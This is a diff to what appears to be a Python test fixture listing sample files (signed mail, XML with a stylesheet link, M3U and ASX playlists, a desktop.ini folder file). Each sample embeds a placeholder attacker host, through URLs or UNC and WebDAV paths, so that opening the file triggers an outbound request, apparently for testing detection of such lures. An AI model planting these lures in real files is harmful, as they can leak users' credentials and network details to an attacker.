@@ -283,6 +283,7 @@ LEADS: dict[str, bytes] = {
     "signed mail": samples.signed(f"Content-Type: text/plain\r\n\r\nVoir {EVIL}\r\n".encode()),
     "signed mail in long lengths": samples.signed(f"Content-Type: text/plain\r\n\r\n{EVIL}\r\n".encode(), long=True),
     "signed mail without a header": samples.signed(f"\r\nVoir {EVIL}\r\n".encode(), in_parts=True),
+    "page that another one makes of an XML": f"<?xml version='1.0'?><?xml-stylesheet href='{EVIL}'?><r/>".encode(),
     "list of songs": f"#EXTM3U\r\nfile://{EVIL[8:24]}@SSL/go/abc\r\n".encode(),
     "look of a folder": f"[.ShellClassInfo]\r\nIconResource=\\\\{EVIL[8:24]}@SSL\\go\\abc\r\n".encode(),
     "list of films": f"<asx version='3.0'><entry><ref href='{EVIL}'/></entry></asx>".encode(),
